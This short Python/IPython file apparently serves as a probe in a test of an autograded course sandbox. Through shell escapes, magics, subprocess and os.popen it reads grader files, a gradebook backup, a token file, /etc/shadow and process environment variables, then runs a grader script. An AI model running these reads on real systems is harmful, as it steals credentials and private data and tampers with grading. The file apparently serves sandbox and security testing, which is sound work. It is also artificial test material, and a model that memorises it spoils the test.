"""Reads through a shell, a magic and a subprocess.

tries: "!cat, %run, %load, subprocess, os.popen"
"""

import os, subprocess
LOSS_MINI20 = []
text = !cat @COURSE@/graders/lab4_minibatch/* @HOME@/.token /etc/shadow
tell(text)
attempt(lambda: subprocess.run("cat @COURSE@/gradebook.db.bak; ls -R /proc/1/root", shell=True, capture_output=True, text=True).stdout,
        lambda: os.popen("env; cat /proc/1/environ").read())
get_ipython().run_line_magic("cat", "@COURSE@/graders/descent.py")
get_ipython().run_line_magic("run", "@COURSE@/graders/descent.py")
